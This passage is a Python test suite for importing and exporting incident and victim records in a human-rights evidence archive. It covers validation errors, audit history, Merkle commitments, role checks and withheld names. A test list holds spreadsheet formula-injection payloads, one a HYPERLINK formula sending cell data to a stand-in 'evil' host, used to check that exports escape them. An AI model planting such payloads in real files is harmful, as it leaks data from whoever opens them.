"""Importing and exporting incidents and victims: every bad row listed, nothing half-written, one event a file.

On SQLite and PostgreSQL: bad input of every kind the spec names exits 1,
lists each bad row as FILE:LINE: reason, and leaves every record table and
the custody log exactly as they were; a re-import changes nothing; a changed
row keeps its history; an export imports into a fresh archive as the same
states (withheld names never leave); and the Merkle root of a file's event is
recomputed here from the commitments with hashlib alone (RFC 9162).
"""

from __future__ import annotations

import hashlib
import json
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import text

from tests.conftest import Cli, row_counts

TABLES = ("incidents", "attributions", "victims", "consents", "record_changes", "events", "vocab_terms")
WITHHELD = "Huda Withheld-Name"

INCIDENTS = """ref,type,started_at,governorate,attribution,place,narrative,latitude,longitude
INC-1,killing,2023-12-09T14:30,idlib,syrian_regime+russian_forces,Sarmada,"Shelling of the market,
two barrel bombs at noon",35.93,36.63
INC-2,landmine,2023-11-01,aleppo,landmine_unidentified,,,,
INC-3,attack_school,2023-10-05,hama,syrian_regime,,,,
"""
VICTIMS = f"""ref,incident_ref,name,name_withheld,sex,age,age_group,civilian,professions,date_of_death,\
date_documented,family_consent,consent_date,consent_recorded_by
VIC-1,INC-1,محمد أحمد,false,male,12,child,true,,2023-12-09,2023-12-10,yes,2023-12-11,Researcher A
VIC-2,INC-1,,false,female,,adult,true,medical;media,2023-12-09,2023-12-10,,,
VIC-3,INC-1,{WITHHELD},true,female,34,,true,,2023-12-09,2024-01-05,no,,
VIC-4,INC-2,Ahmad Saleh,false,male,40,,false,,2023-11-01,2023-11-01,,,
"""


@pytest.fixture()
def db_cli(tmp_path: Path, catalog_url: str, monkeypatch: pytest.MonkeyPatch) -> Cli:
    monkeypatch.setenv("EVIDENCE_DATABASE_URL", catalog_url)
    runner = Cli(tmp_path / "home")
    runner("init", "--operator", "tester")
    return runner


def _write(tmp: Path, name: str, content: str | bytes) -> str:
    path = tmp / name
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        path.write_text(content, encoding="utf-8")
    return str(path)


def _counts(home: Path) -> dict[str, int]:
    return row_counts(home, TABLES)


def _import(cli: Cli, *args: str, expect: int = 0) -> tuple[dict[str, Any], str]:
    _, out, err = cli("import", *args, "--json", expect=expect)
    return json.loads(out), err


def _states(home: Path) -> dict[str, dict[str, Any]]:
    """Every incident, victim and consent state by ref (ids replaced by refs: a fresh archive has other ids)."""
    from sqlmodel import Session, select

    from archive.context import Archive
    from archive.records.store import KINDS, state_of
    from archive.records.tables import Consent, Incident, Victim

    archive = Archive.open(home)
    try:
        keys = archive.runtime.keys.catalog()
        with Session(archive.engine) as session:
            incidents = {r.id: r.ref for r in session.exec(select(Incident)).all()}
            victims = {r.id: r.ref for r in session.exec(select(Victim)).all()}
            out = {f"incident {r.ref}": state_of(keys, KINDS["incident"], r) for r in session.exec(select(Incident))}
            for row in session.exec(select(Victim)).all():
                state = state_of(keys, KINDS["victim"], row)
                out[f"victim {row.ref}"] = {**state, "incident_id": incidents[state["incident_id"]]}
            for consent in session.exec(select(Consent)).all():
                state = state_of(keys, KINDS["consent"], consent)
                out[f"consent {victims[consent.victim_id]}"] = {**state, "victim_id": victims[state["victim_id"]]}
    finally:
        archive.close()
    return out


def _good(cli: Cli, tmp: Path) -> dict[str, Any]:
    report, _ = _import(cli, "--incidents", _write(tmp, "incidents.csv", INCIDENTS),
                        "--victims", _write(tmp, "victims.csv", VICTIMS))
    return report


def test_import_creates_records_with_one_event_per_file(db_cli: Cli, tmp_path: Path) -> None:
    report = _good(db_cli, tmp_path)
    assert report["imported"] is True
    assert {k: report["incidents"][k] for k in ("rows", "created", "updated", "unchanged")} == \
        {"rows": 3, "created": 3, "updated": 0, "unchanged": 0}
    assert report["victims"]["created"] == 4 and report["victims"]["consents"] == 2
    counts = _counts(db_cli.home)
    assert counts["incidents"] == 3 and counts["attributions"] == 3 and counts["victims"] == 4
    assert counts["consents"] == 2
    shown = db_cli.json("incident", "show", "INC-1")
    assert shown["narrative"] == "Shelling of the market,\ntwo barrel bombs at noon"
    assert shown["attribution"] == "russian_forces+syrian_regime" and shown["latitude"] == "35.93"
    assert shown["attributions"][0]["reason"] == "imported"
    events = _events(db_cli.home)
    batches = [e for e in events if e["details"].get("change") == "import"]
    assert [b["details"]["records_kind"] for b in batches] == ["incidents", "victims"]
    assert batches[0]["details"]["records"] == 6  # 3 incidents and their 3 first attributions
    assert batches[1]["details"]["records"] == 6  # 4 victims and 2 consents
    for batch in batches:
        text_of = json.dumps(batch["details"], ensure_ascii=False)
        assert WITHHELD not in text_of and "Sarmada" not in text_of and "محمد" not in text_of


def _events(home: Path) -> list[dict[str, Any]]:
    from sqlmodel import Session, col, select

    from archive.catalog.events import Event
    from archive.context import Archive

    archive = Archive.open(home)
    try:
        with Session(archive.engine) as session:
            return [{"seq": e.seq, "details": e.details}
                    for e in session.exec(select(Event).order_by(col(Event.seq))).all()]
    finally:
        archive.close()


def _mth(leaves: list[bytes]) -> bytes:
    """RFC 9162 Merkle tree hash, from hashlib alone."""
    if not leaves:
        return hashlib.sha256(b"").digest()
    if len(leaves) == 1:
        return hashlib.sha256(b"\x00" + leaves[0]).digest()
    k = 1
    while k * 2 < len(leaves):
        k *= 2
    return hashlib.sha256(b"\x01" + _mth(leaves[:k]) + _mth(leaves[k:])).digest()


def _jcs(value: Any) -> bytes:
    """RFC 8785 for what a state holds (text, integers, booleans, null, lists; ASCII keys)."""
    return json.dumps(value, sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode()


def test_batch_merkle_root_recomputed_from_the_commitments(db_cli: Cli, tmp_path: Path) -> None:
    from sqlmodel import Session, col, select

    from archive.context import Archive
    from archive.records.changes import opened
    from archive.records.tables import RecordChange

    report = _good(db_cli, tmp_path)
    logged = {e["seq"]: e["details"] for e in _events(db_cli.home)}
    archive = Archive.open(db_cli.home)
    try:
        keys = archive.runtime.keys.catalog()
        with Session(archive.engine) as session:
            for what in ("incidents", "victims"):
                event = report[what]["event"]
                rows = session.exec(select(RecordChange).where(RecordChange.event_seq == event["seq"])
                                    .order_by(col(RecordChange.batch_index))).all()
                assert [r.batch_index for r in rows] == list(range(len(rows)))
                for row in rows:  # each commitment binds the sealed state under its salt
                    fields = opened(keys, row)
                    digest = hashlib.sha256(_jcs(fields["state"])).hexdigest()
                    line = f"evidence-record/1 {row.record_id} {fields['salt']} {digest}\n"
                    assert hashlib.sha256(line.encode("ascii")).hexdigest() == row.commitment
                root = _mth([bytes.fromhex(r.commitment) for r in rows]).hex()
                assert root == event["merkle_root"]
                assert logged[event["seq"]]["merkle_root"] == root
    finally:
        archive.close()


def test_reimport_changes_nothing_and_a_changed_row_keeps_history(db_cli: Cli, tmp_path: Path) -> None:
    _good(db_cli, tmp_path)
    before = _counts(db_cli.home)
    again = _good(db_cli, tmp_path)
    assert _counts(db_cli.home) == before
    assert again["incidents"]["unchanged"] == 3 and again["victims"]["unchanged"] == 4
    assert again["incidents"]["event"] is None and again["victims"]["event"] is None

    # INC-1 re-attributed and re-told, INC-2 and INC-3 absent (left untouched), VIC-1's consent withdrawn.
    changed = INCIDENTS.splitlines()[0] + "\n" + \
        "INC-1,killing,2023-12-09T14:30,idlib,syrian_regime,Sarmada,Shelling of the market,35.93,36.63\n"
    victims = VICTIMS.splitlines()[0] + "\n" + \
        "VIC-1,INC-1,محمد أحمد,false,male,12,child,true,,2023-12-09,2023-12-10,withdrawn,2024-02-01,Researcher A\n"
    report, _ = _import(db_cli, "--incidents", _write(tmp_path, "changed.csv", changed),
                        "--victims", _write(tmp_path, "changed-victims.csv", victims))
    assert (report["incidents"]["updated"], report["incidents"]["attributions"]) == (1, 1)
    assert report["victims"]["updated"] == 1 and report["victims"]["consents"] == 1
    after = _counts(db_cli.home)
    assert after["incidents"] == 3 and after["attributions"] == 4 and after["events"] == before["events"] + 2
    shown = db_cli.json("incident", "show", "INC-1", "--history")
    assert shown["attribution"] == "syrian_regime" and shown["narrative"] == "Shelling of the market"
    assert [h["change"] for h in shown["history"]] == ["create", "edit"]
    assert shown["history"][1]["before"]["attribution"] == "russian_forces+syrian_regime"
    assert shown["history"][1]["reason"] == "imported"
    assert [a["parties"] for a in shown["attributions"]] == ["russian_forces+syrian_regime", "syrian_regime"]
    states = _states(db_cli.home)
    assert states["incident INC-2"]["type"] == "landmine" and "incident INC-3" in states
    assert states["consent VIC-1"]["status"] == "withdrawn"


BAD_INCIDENT_HEADER = "ref,type,started_at,governorate,attribution"
BAD_VICTIM_HEADER = "ref,incident_ref,sex,age,age_group,civilian,date_of_death,date_documented"

# (name, files {option: (file name, content)}, format, expected [(file name, line, part of the reason)])
BAD: list[tuple[str, dict[str, tuple[str, str | bytes]], str, list[tuple[str, int, str]]]] = [
    ("unknown vocabulary values", {"--incidents": ("i.csv", f"""{BAD_INCIDENT_HEADER}
NEW-1,killing,2023-01-01,idlib,syrian_regime
NEW-2,bombardment,2023-01-01,idlib,syrian_regime
NEW-3,killing,2023-01-01,atlantis,syrian_regime
NEW-4,killing,2023-01-01,idlib,syrian_regime+martians
""")}, "csv", [("i.csv", 3, "type: unknown value 'bombardment'"), ("i.csv", 4, "governorate: unknown value"),
               ("i.csv", 5, "attribution: unknown value 'martians'")]),
    ("dates, incidents, duplicates, ages, booleans", {"--victims": ("v.csv", f"""{BAD_VICTIM_HEADER}
NEW-V1,INC-1,male,30,,true,2023-12-20,2023-12-10
NEW-V2,NO-SUCH-INCIDENT,male,30,,true,,2023-12-10
NEW-V3,INC-1,male,12,adult,true,,2023-12-10
NEW-V3,INC-1,male,12,child,true,,2023-12-10
NEW-V5,INC-1,male,,,yes,,2023-12-10
NEW-V6,INC-1,male,,,true,,2023-12-10
""")}, "csv", [("v.csv", 2, "date_of_death: 2023-12-20 is after the date documented"),
               ("v.csv", 3, "unknown incident 'NO-SUCH-INCIDENT'"),
               ("v.csv", 4, "age_group: 'adult' disagrees with age 12"),
               ("v.csv", 5, "duplicate ref 'NEW-V3' (first on line 4)"),
               ("v.csv", 6, "civilian: 'yes' is not true or false")]),
    ("line numbers after a quoted field over two lines", {"--incidents": ("q.csv", f"""{BAD_INCIDENT_HEADER},narrative
NEW-1,killing,2023-01-01,idlib,syrian_regime,"one line
and another"
NEW-2,killing,2023-01-01,idlib,nobody,
""")}, "csv", [("q.csv", 4, "attribution: unknown value 'nobody'")]),
    ("unknown column", {"--incidents": ("u.csv", f"{BAD_INCIDENT_HEADER},casualties\nNEW-1,killing,2023-01-01,"
                                                 "idlib,syrian_regime,12\n")},
     "csv", [("u.csv", 1, "unknown column(s): casualties")]),
    ("missing required column", {"--victims": ("m.csv", "ref,incident_ref,sex,civilian\nNEW-V1,INC-1,male,true\n")},
     "csv", [("m.csv", 1, "missing required column(s): date_documented")]),
    ("not UTF-8", {"--victims": ("l.csv", (BAD_VICTIM_HEADER + ",name\nNEW-V1,INC-1,male,,,true,,2023-12-10,"
                                          "José\n").encode("latin-1"))},
     "csv", [("l.csv", 2, "not UTF-8")]),
    ("UTF-16", {"--victims": ("w.csv", (BAD_VICTIM_HEADER + "\n").encode("utf-16"))},
     "csv", [("w.csv", 1, "UTF-16")]),
    ("empty file", {"--incidents": ("e.csv", "")}, "csv", [("e.csv", 1, "empty file")]),
    ("empty JSONL file", {"--incidents": ("e.jsonl", "\n")}, "jsonl", [("e.jsonl", 1, "empty file")]),
    ("JSONL lines that are not objects", {"--incidents": ("j.jsonl", "\n".join([
        json.dumps({"ref": "NEW-1", "type": "killing", "started_at": "2023-01-01", "governorate": "idlib",
                    "attribution": "syrian_regime"}),
        "[1, 2]", "{not json", json.dumps({"ref": "NEW-4", "type": "killing", "bogus": 1}),
        json.dumps({"ref": "NEW-5", "type": "killing", "started_at": "2023-01-01", "governorate": "idlib"})]))},
     "jsonl", [("j.jsonl", 2, "not a JSON object"), ("j.jsonl", 3, "not JSON"),
               ("j.jsonl", 4, "unknown column(s): bogus"), ("j.jsonl", 5, "attribution: required")]),
    ("digits int() refuses, and a second bad row still reported", {"--victims": ("d.csv", f"""{BAD_VICTIM_HEADER}
NEW-V1,INC-1,male,²,,true,,2023-12-10
NEW-V2,INC-1,male,①,,maybe,,2023-12-10
NEW-V3,INC-1,male,٣٤,,true,,2023-12-10
""")}, "csv", [("d.csv", 2, "age: '²' is not a whole number"), ("d.csv", 3, "age: '①' is not a whole number")]),
    ("JSONL booleans as coordinates, keys given twice", {"--incidents": ("k.jsonl", "\n".join([
        '{"ref":"K1","type":"killing","started_at":"2023-01-01","governorate":"idlib","attribution":"isis",'
        '"latitude":true,"longitude":false}',
        '{"ref":"K1","type":"killing","started_at":"2023-01-01","governorate":"idlib","attribution":"isis",'
        '"ref":"K2"}',
        '{"ref":"K3","type":"killing","started_at":"2023-01-01","governorate":"idlib","attribution":"isis",'
        '"latitude":"1_0","longitude":"1e3"}']))},
     "jsonl", [("k.jsonl", 1, "latitude: True is not a number"), ("k.jsonl", 2, "key(s) given twice: ref"),
               ("k.jsonl", 3, "latitude: '1_0' is not a number")]),
    ("NUL bytes, joint attributions with a party left out or twice, implausible years", {"--incidents": ("n.csv",
        f"""{BAD_INCIDENT_HEADER},narrative
NEW-1,killing,2023-01-01,idlib,isis,a\0b
NEW-2,killing,2023-01-01,idlib,sdf+sdf,
NEW-3,killing,2023-01-01,idlib,+sdf,
NEW-4,killing,0001-01-01,idlib,sdf,
NEW-5,killing,2023-01-01, idlib , sdf+isis ,
""")}, "csv", [("n.csv", 2, "a NUL byte at column"), ("n.csv", 3, "sdf given twice"),
               ("n.csv", 4, "has an empty party"), ("n.csv", 5, "not a plausible date")]),
    ("a header with an empty column name", {"--incidents": ("h.csv", f"{BAD_INCIDENT_HEADER},,narrative\n"
                                                             "NEW-1,killing,2023-01-01,idlib,isis,,\n")},
     "csv", [("h.csv", 1, "an empty column name (column 6)")]),
    ("UTF-16 without a byte-order mark", {"--incidents": ("u16.csv", (BAD_INCIDENT_HEADER + "\n").encode("utf-16-le"))},
     "csv", [("u16.csv", 1, "UTF-16 text?")]),
    ("a line longer than any spreadsheet's", {"--incidents": ("g.csv", f"{BAD_INCIDENT_HEADER},narrative\n"
                                                               "NEW-1,killing,2023-01-01,idlib,isis,"
                                                               + "x" * (1 << 21))},
     "csv", [("g.csv", 2, "line longer than")]),
    ("victims of a bad incident row, in one file and the next", {
        "--incidents": ("bi.csv", f"{BAD_INCIDENT_HEADER}\nNEW-1,killing,2023-01-01,idlib,nobody\n"),
        "--victims": ("bv.csv", f"{BAD_VICTIM_HEADER}\nNEW-V1,NEW-1,male,,,true,,2023-12-01\n"
                                "NEW-V2,NEW-1,male,,,maybe,,2023-12-01\n")},
     "csv", [("bi.csv", 2, "attribution: unknown value 'nobody'"), ("bv.csv", 3, "civilian: 'maybe'")]),
    ("a good file beside a bad one imports nothing either", {
        "--incidents": ("good.csv", f"{BAD_INCIDENT_HEADER}\nNEW-1,killing,2023-01-01,idlib,syrian_regime\n"),
        "--victims": ("bad.csv", f"{BAD_VICTIM_HEADER}\nNEW-V1,NEW-1,male,,,true,,2023-13-01\n")},
     "csv", [("bad.csv", 2, "date_documented: '2023-13-01' is not a real date")]),
]


def test_bad_input_of_every_kind_writes_nothing(db_cli: Cli, tmp_path: Path) -> None:
    _good(db_cli, tmp_path)
    before = _counts(db_cli.home)
    states = _states(db_cli.home)
    for name, files, fmt, expected in BAD:
        args = [a for option, (file, content) in files.items() for a in (option, _write(tmp_path, file, content))]
        report, err = _import(db_cli, *args, "--format", fmt, expect=1)
        assert report["imported"] is False, name
        listed = [(Path(e["file"]).name, e["line"], e["reason"]) for what in ("incidents", "victims")
                  if what in report for e in report[what]["errors"]]
        assert len(listed) == len(expected), (name, listed)
        for (file, line, part), (got_file, got_line, reason) in zip(expected, listed, strict=True):
            assert (got_file, got_line) == (file, line) and part in reason, (name, listed)
            assert f"{file}:{line}: {reason}" in err, (name, err)
        assert "nothing imported" in err
        assert _counts(db_cli.home) == before, name
    assert _states(db_cli.home) == states


def test_every_bad_row_is_listed_up_to_the_cap(db_cli: Cli, tmp_path: Path) -> None:
    from archive.records.interchange import MAX_PROBLEMS

    rows = "".join(f"NEW-{n},killing,2023-01-01,idlib,nobody\n" for n in range(MAX_PROBLEMS + 5))
    report, err = _import(db_cli, "--incidents", _write(tmp_path, "many.csv", f"{BAD_INCIDENT_HEADER}\n{rows}"),
                          expect=1)
    assert report["incidents"]["error_count"] == MAX_PROBLEMS + 5
    assert len(report["incidents"]["errors"]) == MAX_PROBLEMS
    assert "… and 5 more" in err


def test_round_trip_into_a_fresh_archive(db_cli: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                        catalog_url: str) -> None:
    _good(db_cli, tmp_path)
    original = _states(db_cli.home)
    for fmt in ("csv", "jsonl"):
        inc, vic = str(tmp_path / f"out-i.{fmt}"), str(tmp_path / f"out-v.{fmt}")
        exported = db_cli.json("export-records", "--incidents", inc, "--victims", vic, "--format", fmt)
        assert exported["incidents"]["rows"] == 3 and exported["victims"]["rows"] == 4
        written = Path(inc).read_text(encoding="utf-8") + Path(vic).read_text(encoding="utf-8")
        assert WITHHELD not in written and "محمد أحمد" in written

        # Back into the archive it came from: nothing changes, the withheld name stays.
        report, _ = _import(db_cli, "--incidents", inc, "--victims", vic, "--format", fmt)
        assert report["incidents"]["event"] is None and report["victims"]["event"] is None
        assert _states(db_cli.home) == original

        # Into a fresh archive (SQLite): the same states, but for the name that never left.
        monkeypatch.setenv("EVIDENCE_DATABASE_URL", f"sqlite:///{tmp_path / f'fresh-{fmt}.db'}")
        fresh = Cli(tmp_path / f"fresh-{fmt}")
        fresh("init", "--operator", "tester")
        _import(fresh, "--incidents", inc, "--victims", vic, "--format", fmt)
        copied = _states(fresh.home)
        assert copied["victim VIC-3"]["name"] is None
        assert {**copied, "victim VIC-3": {**copied["victim VIC-3"], "name": WITHHELD}} == original
        monkeypatch.setenv("EVIDENCE_DATABASE_URL", catalog_url)


def test_export_never_holds_a_withheld_name_whatever_the_role(db_cli: Cli, tmp_path: Path) -> None:
    from archive.context import Archive
    from archive.roles import Role
    from archive.services.errors import Forbidden
    from archive.services.records_io import export_records, import_records

    _good(db_cli, tmp_path)
    archive = Archive.open(db_cli.home, "tester")
    try:
        for role in (Role.CUSTODIAN, Role.INVESTIGATOR):
            out = tmp_path / f"v-{role}.jsonl"
            export_records(archive, victims=out, format="jsonl", role=role)
            rows = {r["ref"]: r for r in map(json.loads, out.read_text(encoding="utf-8").splitlines())}
            assert rows["VIC-3"]["name"] is None and rows["VIC-3"]["name_withheld"] is True
            assert WITHHELD not in out.read_text(encoding="utf-8")
        with pytest.raises(Forbidden):
            export_records(archive, victims=tmp_path / "c.csv", role=Role.CONTRIBUTOR)
        with pytest.raises(Forbidden):
            import_records(archive, victims=tmp_path / "victims.csv", role=Role.CONTRIBUTOR)
    finally:
        archive.close()


def test_jsonl_import_takes_json_values(db_cli: Cli, tmp_path: Path) -> None:
    lines = [{"ref": "J-1", "type": "killing", "started_at": "2023-05-01", "governorate": "homs",
              "attribution": "isis", "latitude": 34.73, "longitude": 36.71}]
    victims = [{"ref": "JV-1", "incident_ref": "J-1", "sex": "female", "age": 9, "civilian": True,
                "professions": ["aid_worker"], "date_documented": "2023-05-02", "name": None}]
    report, _ = _import(db_cli, "--format", "jsonl",
                        "--incidents", _write(tmp_path, "i.jsonl", "\n".join(map(json.dumps, lines)) + "\n"),
                        "--victims", _write(tmp_path, "v.jsonl", "\n".join(map(json.dumps, victims))))
    assert report["incidents"]["created"] == 1 and report["victims"]["created"] == 1
    states = _states(db_cli.home)
    assert states["incident J-1"]["latitude"] == "34.73"
    assert states["victim JV-1"]["professions"] == ["aid_worker"] and states["victim JV-1"]["age"] == 9


def test_victims_may_name_incidents_already_in_the_archive(db_cli: Cli, tmp_path: Path) -> None:
    _good(db_cli, tmp_path)
    report, _ = _import(db_cli, "--victims", _write(tmp_path, "later.csv",
                                                    f"{BAD_VICTIM_HEADER}\nVIC-9,INC-3,male,,,true,,2023-10-06\n"))
    assert report["victims"]["created"] == 1
    assert _states(db_cli.home)["victim VIC-9"]["incident_id"] == "INC-3"


VOCAB = {"format": "evidence-vocab/1", "name": "Another conflict", "vocabularies": {
    "parties": [{"key": "northern_army", "label": "Northern Army", "group": "main",
                 "former_names": ["Northern Front"]},
                {"key": "mines_unknown", "label": "Landmines of unknown source", "group": "other"}],
    "governorates": [{"key": "north_province", "label": "North Province"}],
    "incident_types": [{"key": "killing", "label": "Killing"}]}}


def test_vocab_load_and_show(db_cli: Cli, tmp_path: Path) -> None:
    """Another conflict's vocabulary, loaded into a new archive, is its only one."""
    path = _write(tmp_path, "vocab.json", json.dumps(VOCAB))
    report = db_cli.json("vocab", "load", path)
    assert report["vocabularies"]["parties"] == {"added": 2, "updated": 0} and report["added"] == 4
    assert db_cli.json("vocab", "load", path)["added"] == 0  # loading again changes nothing
    parties = {t["key"]: t for t in db_cli.json("vocab", "show", "parties")["parties"]}
    assert parties["northern_army"]["former_names"] == ["Northern Front"]
    assert parties["mines_unknown"]["group"] == "other"
    assert "syrian_regime" not in parties  # loaded before any record: it replaces the default set
    _, out, _ = db_cli("vocab", "show", "governorates")
    assert "north_province" in out
    report, _ = _import(db_cli, "--incidents", _write(tmp_path, "n.csv", f"{BAD_INCIDENT_HEADER}\n"
                                                      "N-1,killing,2024-03-01,north_province,northern_army\n"))
    assert report["incidents"]["created"] == 1


@pytest.mark.parametrize("content, part", [
    ("{not json", "not JSON"),
    (json.dumps({"format": "something-else"}), "not an evidence-vocab/1 document"),
    (json.dumps({"format": "evidence-vocab/1", "vocabularies": {"colours": []}}), "unknown vocabulary 'colours'"),
    (json.dumps({"format": "evidence-vocab/1", "vocabularies": {"parties": [{"key": "x"}]}}), "needs a group"),
    (json.dumps({"format": "evidence-vocab/1", "vocabularies": {"parties": [
        {"key": "isis", "label": "ISIS", "group": "other"}]}}), "may not move it"),
])
def test_bad_vocab_files_are_refused(cli: Cli, tmp_path: Path, content: str, part: str) -> None:
    cli("vocab", "show", "parties")  # the default set is in place
    before = _counts(cli.home)
    _, _, err = cli("vocab", "load", _write(tmp_path, "bad.json", content), expect=2)
    assert part in err
    assert _counts(cli.home) == before


def test_a_column_the_file_does_not_have_leaves_the_field_unchanged(db_cli: Cli, tmp_path: Path) -> None:
    """A small sheet (the required columns, or ref + one fix) changes only what it holds; a new record gets the
    defaults. Leaving out `name_withheld` never lifts a family's request (the next export would publish it)."""
    _good(db_cli, tmp_path)
    before = _states(db_cli.home)
    small = "ref,type,started_at,governorate,attribution\n" \
        "INC-1,killing,2023-12-09T14:30,idlib,syrian_regime\nINC-9,killing,2023-12-01,idlib,isis\n"
    report, _ = _import(db_cli, "--incidents", _write(tmp_path, "pi.csv", small),
                        "--victims", _write(tmp_path, "pv.csv", "ref,incident_ref,sex,civilian,date_documented,age\n"
                                            "VIC-2,INC-1,female,true,2023-12-10,\n"
                                            "VIC-3,INC-1,female,true,2024-01-05,35\n"))
    assert (report["incidents"]["updated"], report["incidents"]["created"]) == (1, 1)
    after = _states(db_cli.home)
    assert after["incident INC-1"] == {**before["incident INC-1"], "attribution": "syrian_regime"}
    assert after["incident INC-9"]["narrative"] is None and after["incident INC-9"]["started_precision"] == "day"
    assert after["victim VIC-2"] == before["victim VIC-2"]  # an empty age cell of a present column: still empty
    assert report["victims"]["unchanged"] == 1 and report["victims"]["updated"] == 1
    assert after["victim VIC-3"] == {**before["victim VIC-3"], "age": 35}
    assert after["victim VIC-3"]["name"] == WITHHELD and after["victim VIC-3"]["name_withheld"] is True
    out = tmp_path / "out.csv"
    db_cli("export-records", "--victims", str(out))
    assert WITHHELD not in out.read_text(encoding="utf-8")

    # JSON Lines: a key left out is a column not given; null is the column given empty.
    line = {"ref": "VIC-1", "incident_ref": "INC-1", "sex": "male", "civilian": True, "date_documented": "2023-12-10",
            "age_group": None}
    _import(db_cli, "--format", "jsonl", "--victims", _write(tmp_path, "v.jsonl", json.dumps(line) + "\n"))
    now = _states(db_cli.home)["victim VIC-1"]
    assert now == {**after["victim VIC-1"], "age_group": None} and now["name"] == "محمد أحمد"


def test_lifting_a_withheld_name_needs_the_name(db_cli: Cli, tmp_path: Path) -> None:
    """`name_withheld=false` with an empty name would erase what the family gave: refused, nothing written."""
    _good(db_cli, tmp_path)
    before, counts = _states(db_cli.home), _counts(db_cli.home)
    header = "ref,incident_ref,name,name_withheld,sex,civilian,date_documented\n"
    for row in ("VIC-3,INC-1,,false,female,true,2024-01-05\n", "VIC-3,INC-1,  ,false,female,true,2024-01-05\n"):
        report, err = _import(db_cli, "--victims", _write(tmp_path, "lift.csv", header + row), expect=1)
        assert "to lift a withheld name, give the name" in err and report["imported"] is False
        assert _states(db_cli.home) == before and _counts(db_cli.home) == counts
    # Without the name column the name stays, and so does the withholding unless the row lifts it with the name.
    _import(db_cli, "--victims", _write(tmp_path, "keep.csv", "ref,incident_ref,sex,civilian,date_documented\n"
                                        "VIC-3,INC-1,female,true,2024-01-05\n"))
    assert _states(db_cli.home) == before
    _import(db_cli, "--victims", _write(tmp_path, "lift2.csv", header + f"VIC-3,INC-1,{WITHHELD},false,female,true,"
                                        "2024-01-05\n"))
    assert _states(db_cli.home)["victim VIC-3"] == {**before["victim VIC-3"], "name_withheld": False}


def test_only_a_custodian_imports(db_cli: Cli, tmp_path: Path) -> None:
    """A row may rewrite or lift a withheld name, which only a custodian sees: investigators may export, not
    import (the review's probe: an investigator's own export with a guessed name filled in)."""
    from archive.context import Archive
    from archive.roles import Role
    from archive.services.errors import Forbidden
    from archive.services.records_io import export_records, import_records

    _good(db_cli, tmp_path)
    before, counts = _states(db_cli.home), _counts(db_cli.home)
    archive = Archive.open(db_cli.home, "tester")
    try:
        out = tmp_path / "mine.csv"
        assert export_records(archive, victims=out, role=Role.INVESTIGATOR)["victims"]["rows"] == 4
        guessed = out.read_text(encoding="utf-8").replace("VIC-3,INC-1,,true", f"VIC-3,INC-1,{WITHHELD},true")
        for role in (Role.INVESTIGATOR, Role.CONTRIBUTOR):
            with pytest.raises(Forbidden, match="custodian"):
                import_records(archive, victims=_write(tmp_path, "guess.csv", guessed), role=role)
    finally:
        archive.close()
    assert _states(db_cli.home) == before and _counts(db_cli.home) == counts


FORMULAS = ['=HYPERLINK("http://evil/?"&C3,"open")', "+cmd", "-2+3", "@SUM(A1)", "'=already quoted", "''@x",
            "'plain", "-12.5x"]


def test_export_is_safe_to_open_in_a_spreadsheet_and_round_trips(db_cli: Cli, tmp_path: Path) -> None:
    """Formula-like cells are written with one leading `'` (a plain number is not); reading drops exactly that
    one, so the export imports as the same text and exports byte-identically again."""
    import csv
    import io

    from archive.records.interchange import escape, unescape

    for text_ in [*FORMULAS, "-12.5", "+5", "", "'", "a=b", "\t1"]:
        assert unescape(escape(text_)) == text_
    assert escape("-12.5") == "-12.5" and escape("=1") == "'=1" and escape("'=1") == "''=1"
    def sheet(header: list[str], rows: list[list[str]]) -> str:  # as an export writes it: escaped
        buffer = io.StringIO()
        csv.writer(buffer, lineterminator="\n").writerows([header, *([escape(c) for c in r] for r in rows)])
        return buffer.getvalue()

    incidents = sheet(["ref", "type", "started_at", "governorate", "attribution", "place", "narrative"],
                      [[v, "killing", "2023-12-09", "idlib", "isis", v, f"n{i}"] for i, v in enumerate(FORMULAS)])
    victims = sheet(["ref", "incident_ref", "name", "sex", "civilian", "date_documented", "consent_recorded_by",
                     "family_consent", "consent_date"],
                    [[f"V{i}", v, v, "male", "true", "2023-12-10", v, "yes", "2023-12-10"]
                     for i, v in enumerate(FORMULAS)])
    _import(db_cli, "--incidents", _write(tmp_path, "f-i.csv", incidents),
            "--victims", _write(tmp_path, "f-v.csv", victims))
    states = _states(db_cli.home)
    assert {states[f"victim V{i}"]["name"] for i in range(len(FORMULAS))} == set(FORMULAS)
    inc, vic = tmp_path / "e-i.csv", tmp_path / "e-v.csv"
    db_cli("export-records", "--incidents", str(inc), "--victims", str(vic))
    for path in (inc, vic):
        for row in list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))[1:]:
            assert not any(c[:1] in ("=", "+", "-", "@", "\t", "\r") for c in row if c not in ("", "-12.5"))
    first = inc.read_bytes(), vic.read_bytes()
    report, _ = _import(db_cli, "--incidents", str(inc), "--victims", str(vic))
    assert report["incidents"]["event"] is None and report["victims"]["event"] is None
    assert _states(db_cli.home) == states
    db_cli("export-records", "--incidents", str(inc), "--victims", str(vic), "--force")
    assert (inc.read_bytes(), vic.read_bytes()) == first


def test_export_never_overwrites_without_force_and_writes_owner_only(db_cli: Cli, tmp_path: Path) -> None:
    """The team's own sheet is not replaced silently; a missing folder is a one-line error; the file is 0600,
    written through a fresh exclusive file (never a planted link), and nothing is left behind on failure."""
    import os
    import stat

    _good(db_cli, tmp_path)
    keep = tmp_path / "keep.csv"
    keep.write_text("the team's sheet\n", encoding="utf-8")
    _, _, err = db_cli("export-records", "--incidents", str(tmp_path / "new.csv"), "--victims", str(keep), expect=2)
    assert "exists already; give --force" in err and "internal error" not in err
    assert keep.read_text(encoding="utf-8") == "the team's sheet\n" and not (tmp_path / "new.csv").exists()
    _, _, err = db_cli("export-records", "--incidents", str(tmp_path / "nowhere" / "x.csv"), expect=2)
    assert "does not exist" in err and "internal error" not in err
    _, _, err = db_cli("export-records", "--incidents", str(tmp_path), expect=2)
    assert "is a folder" in err
    victim = tmp_path / "attacker.txt"
    victim.write_text("", encoding="utf-8")
    os.symlink(victim, tmp_path / "ex.csv.part")  # the old fixed name: no longer used, never followed
    db_cli("export-records", "--victims", str(keep), "--incidents", str(tmp_path / "ex.csv"), "--force")
    assert victim.read_text(encoding="utf-8") == "" and not (tmp_path / "ex.csv").is_symlink()
    for path in (keep, tmp_path / "ex.csv"):
